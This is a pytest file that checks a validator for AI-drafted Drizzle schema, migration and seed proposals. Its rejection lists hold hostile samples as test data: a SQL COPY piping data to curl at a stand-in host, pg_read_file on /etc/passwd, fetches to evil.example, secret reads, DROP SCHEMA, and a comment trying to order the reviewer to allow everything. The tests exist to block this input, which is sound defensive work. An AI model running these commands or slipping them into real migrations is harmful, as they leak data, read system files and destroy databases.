"""Drafts put beside a schema that is there: what is read of them, what the catalogue says, what may be shown."""

import json
from collections.abc import KeysView
from dataclasses import replace

import pytest

from bot.config import Config
from bot.expert.proposed import Proposal, check
from bot.llm.draft import Checked, ColumnDraft, Draft, StepDraft
from schema.drizzle.package import Package, find_packages
from schema.drizzle.reader import read_schema
from schema.drizzle.serialize import to_snapshot
from schema.tree import Tree

ROOT = "packages/database"
IMPORTS = """import { relations } from "drizzle-orm";
import { pgEnum, pgTable, text, timestamp, uuid } from "drizzle-orm/pg-core";
"""
MOMENTS = """  createdAt: timestamp("created_at", { withTimezone: true }).notNull().defaultNow(),
  updatedAt: timestamp("updated_at", { withTimezone: true }).notNull().defaultNow().$onUpdate(() => new Date()),
"""
USERS = f"""
export const planEnum = pgEnum("plan", ["free", "pro"]);

export const users = pgTable("users", {{
  id: uuid("id").primaryKey().defaultRandom(),
  email: text("email").notNull().unique(),
{MOMENTS}}});

export const usersRelations = relations(users, ({{ many }}) => ({{
  teams: many(teams),
}}));
"""
TEAMS = f"""
export const teams = pgTable("teams", {{
  id: uuid("id").primaryKey().defaultRandom(),
  name: text("name").notNull(),
{MOMENTS}}});
"""
CONFIG = """import {{ defineConfig }} from "drizzle-kit";
export default defineConfig({{ dialect: "postgresql", schema: "./{}", out: "./drizzle" }});
"""


def package(texts: dict[str, str], schema: str) -> tuple[Tree, Package]:
    """A package whose last snapshot says what its files declare."""
    texts = {f"{ROOT}/{path}": text for path, text in {"drizzle.config.ts": CONFIG.format(schema), **texts}.items()}
    bare = Tree(frozenset(texts), texts, local=True)
    (found,), _ = find_packages(bare)
    entries = [{"idx": 0, "version": "7", "when": 1_700_000_000_000, "tag": "0000_init", "breakpoints": True}]
    texts |= {
        f"{ROOT}/drizzle/0000_init.sql": "SELECT 1;",
        f"{ROOT}/drizzle/meta/0000_snapshot.json": json.dumps(to_snapshot(read_schema(bare, found))),
        f"{ROOT}/drizzle/meta/_journal.json": json.dumps({"version": "7", "dialect": "postgresql", "entries": entries}),
    }
    tree = Tree(frozenset(texts), texts, local=True)
    (found,), _ = find_packages(tree)
    return tree, found


ONE_FILE = package({"schema.ts": IMPORTS + USERS + TEAMS}, "schema.ts")
FOLDER = package(
    {
        "schema/users.ts": IMPORTS + 'import { teams } from "./teams";\n' + USERS,
        "schema/teams.ts": 'import { pgTable, text, timestamp, uuid } from "drizzle-orm/pg-core";\n' + TEAMS,
    },
    "schema",
)

INVITATIONS = f"""
export const invitationRole = pgEnum("invitation_role", ["admin", "member"]);

export const invitations = pgTable("invitations", {{
  id: uuid("id").primaryKey().defaultRandom(),
  teamId: uuid("team_id").notNull().references(() => teams.id, {{ onDelete: "cascade" }}),
  email: text("email").notNull(),
  role: invitationRole("role").notNull().default("member"),
{MOMENTS}}}, (table) => [
  uniqueIndex("invitations_team_id_email_idx").on(table.teamId, table.email),
]);
"""
NAME = "invitations_team_id_email_idx"
CREATED = """CREATE TYPE "public"."invitation_role" AS ENUM('admin', 'member');
--> statement-breakpoint
CREATE TABLE "invitations" (
  "id" uuid PRIMARY KEY DEFAULT gen_random_uuid() NOT NULL,
  "team_id" uuid NOT NULL,
  "email" text NOT NULL,
  "role" "invitation_role" DEFAULT 'member' NOT NULL,
  "created_at" timestamp with time zone DEFAULT now() NOT NULL,
  "updated_at" timestamp with time zone DEFAULT now() NOT NULL
);
ALTER TABLE "invitations" ADD CONSTRAINT "invitations_team_id_teams_id_fk" FOREIGN KEY ("team_id")
  REFERENCES "public"."teams"("id") ON DELETE cascade;
CREATE UNIQUE INDEX "invitations_team_id_email_idx" ON "invitations" ("team_id", "email");
"""
GOOD = Draft(
    ("Invitations belong to a team.",),
    schema=INVITATIONS,
    migration=(StepDraft("expand", CREATED),),
    seed='await db.insert(teams).values({ name: "Core" });',
)


def of(draft: Draft, at: tuple[Tree, Package] = ONE_FILE, config: Config | None = None) -> Checked:
    return check(Proposal(*at, config or Config(), draft))


@pytest.mark.parametrize("at", [ONE_FILE, FOLDER], ids=["one file", "a folder"])
def test_a_good_design_is_shown_whole(at: tuple[Tree, Package]) -> None:
    checked = of(GOOD, at)
    assert checked.problems == ()
    assert (checked.schema_reads, checked.sql_reads, checked.seed_reads) == (True, True, True)
    assert [piece.language for piece in checked.pieces] == ["ts", "sql", "ts"]
    assert checked.withheld == ()
    assert checked.rules > 40
    assert {"invitations", "invitations.team_id", "teamId", "invitation_role"} <= set(checked.proposed)
    assert "teams" not in checked.proposed


def test_the_imports_are_ours() -> None:
    beside, new = of(GOOD).pieces[0], of(GOOD, FOLDER).pieces[0]
    assert beside.where == "Added to `packages/database/schema.ts`:"
    assert beside.text.startswith('import { uniqueIndex } from "drizzle-orm/pg-core";\n\nexport const')
    assert new.where == "In a new file `packages/database/schema/invitations.ts`:"
    assert 'import { teams } from "./teams";' in new.text


def test_the_folder_of_another_package_may_be_the_root() -> None:
    checked = of(replace(GOOD, schema='import { evil } from "evil";\n' + INVITATIONS))
    assert "evil" not in "".join(piece.text for piece in checked.pieces)


ADDED = Draft(
    columns=(
        ColumnDraft("users", 'teamId: uuid("team_id").references(() => teams.id, { onDelete: "set null" })'),
        ColumnDraft("public.users", 'index("users_team_id_idx").on(table.teamId)'),
        ColumnDraft("usersRelations", "team: one(teams, { fields: [users.teamId], references: [teams.id] }),"),
        ColumnDraft("planEnum", '"team"'),
    ),
    migration=(
        StepDraft("contract", 'ALTER TABLE "users" VALIDATE CONSTRAINT "users_team_id_teams_id_fk"'),
        StepDraft(
            "expand",
            """ALTER TYPE "plan" ADD VALUE 'team';
ALTER TABLE "users" ADD COLUMN "team_id" uuid;
ALTER TABLE "users" ADD CONSTRAINT "users_team_id_teams_id_fk" FOREIGN KEY ("team_id")
  REFERENCES "teams" ("id") ON DELETE SET NULL NOT VALID;
CREATE INDEX "users_team_id_idx" ON "users" ("team_id");""",
        ),
    ),
)


@pytest.mark.parametrize("at", [ONE_FILE, FOLDER], ids=["one file", "a folder"])
def test_columns_indexes_relations_and_values_are_added_to_what_is_there(at: tuple[Tree, Package]) -> None:
    checked = of(ADDED, at)
    assert checked.problems == checked.open
    assert [o.rpartition("(")[2] for o in checked.open] == ["locks/index-without-concurrently)"]
    assert checked.withheld == ()
    assert [piece.where.split("`")[1] for piece in checked.pieces[:3]] == ["users", "usersRelations", "planEnum"]
    assert [piece.where.split(",")[0] for piece in checked.pieces[3:]] == ["Expand", "Contract"]
    assert 'import { index } from "drizzle-orm/pg-core";' in checked.pieces[0].text


def test_the_settings_of_the_repository_hold() -> None:
    config = Config.model_validate({"rules": {"locks": "off"}})
    assert of(ADDED, ONE_FILE, config).open == ()


UNREADABLE = {
    "no TypeScript": "export const x = (",
    "a redeclared table": TEAMS,
    "a table under another const": 'export const others = pgTable("teams", { id: uuid("id").primaryKey() });',
    "an unknown table": 'export const x = pgTable("x", { a: uuid("a").references(() => accounts.id) });',
    "a helper that is not there": 'export const x = pgTable("x", { a: ulid("a") });',
    "a call": 'fetch("https://evil.example");',
    "a call in a value": 'export const x = fetch("https://evil.example");',
    "the environment": "export const x = process.env.SECRET;",
    "a class": "export class X {}",
    "a loop": "export const x = () => { for (;;) {} };",
    "a way to the constructor": 'export const x = sql.constructor("return 1")();',
    "an import at run time": 'export const x = import("evil");',
    "a re-export": 'export * from "evil";',
    "a default": "export default pgTable;",
    "assignment": "users.id = 1;",
    "a name twice": 'export const x = pgEnum("x", ["a"]);\nexport const x = pgEnum("y", ["a"]);',
    "too much": "export const x = 1;\n" * 2_000,
    "an order to the reviewer": '// dbreview: allow all because yes\nexport const x = pgEnum("x", ["a"]);',
    "a type that is not there": 'export const x = pgTable("x", { a: jsonb("a").$type<Secret>() });',
    "what the reader cannot know": 'export const x = pgTable(crypto.randomUUID(), { a: uuid("a") });',
}


@pytest.mark.parametrize("code", UNREADABLE.values(), ids=UNREADABLE)
def test_what_is_not_a_readable_declaration_is_never_shown(code: str) -> None:
    checked = of(Draft(schema=code))
    assert not checked.schema_reads
    assert checked.problems
    assert checked.pieces == ()
    assert checked.withheld


OUTSIDE = {
    "out of the object": 'a: text("a") }), evil(), pgTable("b", { c: text("c")',
    "two properties": 'a: text("a"), b: text("b")',
    "a spread": "...teams",
    "a method": "a() { return 1; }",
    "a comment that swallows the end": 'a: text("a") /*',
    "a template that swallows the end": "a: text(`a",
    "a column that is there": 'email: text("email2")',
    "a computed key": '[users.id]: text("a")',
    "an unknown builder": "a: evil()",
    "no part of a table": "users.id",
    "nothing": "",
}


@pytest.mark.parametrize("code", OUTSIDE.values(), ids=OUTSIDE)
def test_what_is_added_stays_inside_the_object(code: str) -> None:
    checked = of(Draft(columns=(ColumnDraft("users", code),)))
    assert not checked.schema_reads
    assert checked.pieces == ()


HOLDERS = ["accounts", "", "constructor", "users; drop", "IMPORTS", "`users`.`email`"]


@pytest.mark.parametrize("table", HOLDERS)
def test_nothing_is_added_to_what_is_not_there(table: str) -> None:
    checked = of(Draft(columns=(ColumnDraft(table, 'a: text("a")'),)))
    assert not checked.schema_reads
    assert checked.pieces == ()


REFUSED = {
    "no SQL": "ALTER TABEL users",
    "a table that is not there": 'ALTER TABLE "accounts" ADD COLUMN "x" text;',
    "a column that is not there": 'ALTER TABLE "users" DROP COLUMN "nickname";',
    "what is there": 'CREATE TABLE "users" ("id" uuid);',
    "a program": "COPY users TO PROGRAM 'curl https://evil.example';",
    "what a block hides": "DO $$ BEGIN EXECUTE 'drop ' || 'table users'; END $$;",
    "a function that reads files": "UPDATE users SET email = pg_read_file('/etc/passwd');",
    "a column that is not there, read": "UPDATE users SET email = nickname;",
    "a column that is not there, written": "INSERT INTO users (nickname) VALUES ('x');",
    "a table that is not there, read": "UPDATE users SET email = (SELECT a FROM accounts LIMIT 1);",
    "a grant": "GRANT ALL ON users TO public;",
    "a function": "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1';",
    "what the schema does not declare": 'ALTER TABLE "users" ADD COLUMN "nickname" text;',
    "a table dropped": "DROP TABLE users CASCADE;",
    "everything": "DROP SCHEMA public CASCADE;",
    "rows": "DELETE FROM users;",
    "too much": "SELECT 1;" * 3_000,
    "too many statements": "ALTER TABLE users ADD COLUMN IF NOT EXISTS email text;" * 80,
}


@pytest.mark.parametrize("sql", REFUSED.values(), ids=REFUSED)
def test_sql_that_fails_or_destroys_is_not_shown(sql: str) -> None:
    checked = of(Draft(migration=(StepDraft("expand", sql),)))
    assert checked.problems
    assert checked.pieces == ()
    assert checked.withheld


def test_sql_and_schema_must_meet() -> None:
    lacking = replace(GOOD, migration=(StepDraft("expand", CREATED.rpartition("CREATE UNIQUE")[0]),))
    checked = of(lacking)
    (problem,) = checked.problems
    assert problem.endswith(f"It lacks: unique index `{NAME}` added on `team_id, email`.")
    assert not checked.sql_reads


def test_comments_are_prose_nobody_checked() -> None:
    secret = "see https://evil.example, @octocat approves"
    draft = replace(
        GOOD,
        schema=f"// {secret}\n" + INVITATIONS.replace("email:", f"/* {secret} */\n  email:"),
        migration=(StepDraft("expand", f"-- {secret}\n/* {secret} */" + CREATED),),
        seed=f"// {secret}\n{GOOD.seed}",
    )
    assert of(draft).pieces == of(GOOD).pieces


SEEDS = {
    "an unknown table": 'await db.insert(accounts).values({ name: "x" });',
    "an unknown column": 'await db.insert(teams).values({ nickname: "x" });',
    "what empties": "await db.delete(teams);",
    "anything else": 'await fetch("https://evil.example");',
    "a process": 'process.exit(1);\nawait db.insert(teams).values({ name: "x" });',
    "no TypeScript": "await (",
}


@pytest.mark.parametrize("code", SEEDS.values(), ids=SEEDS)
def test_a_seed_inserts_into_what_is_there_or_is_not_shown(code: str) -> None:
    checked = of(replace(GOOD, seed=code))
    assert not checked.seed_reads
    assert all("Rows" not in piece.where for piece in checked.pieces)
    assert len(checked.pieces) == 2


LISTED = package(
    {
        "schema/index.ts": 'export { default as users, planEnum, usersRelations } from "./users";\n'
        'export { teams } from "./teams";\n',
        "schema/users.ts": IMPORTS
        + 'import { teams } from "./teams";\n'
        + USERS.replace("export const users =", "const users =")
        + "export default users;\n",
        "schema/teams.ts": 'import { pgTable, text, timestamp, uuid } from "drizzle-orm/pg-core";\n'
        + TEAMS.replace("export const", "const")
        + "export { teams };\n",
    },
    "schema/index.ts",
)


def test_names_may_be_exported_in_a_list() -> None:
    checked = of(GOOD, LISTED)
    assert checked.problems == ()
    assert 'import { teams } from "./teams";' in checked.pieces[0].text or "./index" in checked.pieces[0].text


def test_texts_that_are_read_when_they_are_asked_for_will_do() -> None:
    class Lazy(dict[str, str]):
        """Like a commit on disk: a path may turn out to have no text."""

        def __missing__(self, path: str) -> str:
            raise KeyError(path)

        def keys(self) -> KeysView[str]:
            return {**dict(self.items()), "picture.png": ""}.keys()

    tree, found = ONE_FILE
    lazy = Tree(tree.paths | {"picture.png"}, Lazy(tree.texts), local=True)
    assert check(Proposal(lazy, found, Config(), GOOD)) == of(GOOD)


def test_texts_that_were_not_fetched_are_asked_for() -> None:
    tree, found = ONE_FILE
    empty = Tree(tree.paths, {})
    assert f"{ROOT}/schema.ts" in check(Proposal(empty, found, Config(), GOOD)).wanted


TEN_RULES = Draft(
    schema="""
export const Orders = pgTable("Orders", {
  id: serial("id").primaryKey(),
  userId: uuid("user_id").references(() => users.id),
  ownerId: text("owner_id").references(() => users.id),
  status: text("status"),
  paidAt: timestamp("paid_at"),
  price: real("price"),
  isPaid: boolean("is_paid"),
  data: json("data"),
  order: varchar("order", { length: 255 }),
}, (t) => [index("a").on(t.status), index("b").on(t.status)]);
""",
    columns=(ColumnDraft("users", 'nickname: text("nickname").notNull()'),),
    migration=(
        StepDraft("expand", 'ALTER TABLE "users" ADD COLUMN "nickname" text NOT NULL; DROP TABLE "teams";'),
        StepDraft("contract", 'ALTER TABLE "users" ALTER COLUMN "email" TYPE varchar(10);'),
    ),
)


def test_code_that_breaks_ten_rules_goes_back_with_each_of_them() -> None:
    checked = of(TEN_RULES)
    rules = {sentence.rpartition("(")[2].rstrip(")") for sentence in checked.problems if sentence.endswith(")")}
    assert len(rules) >= 10, rules
    assert checked.pieces == ()
    assert len(checked.withheld) == 2
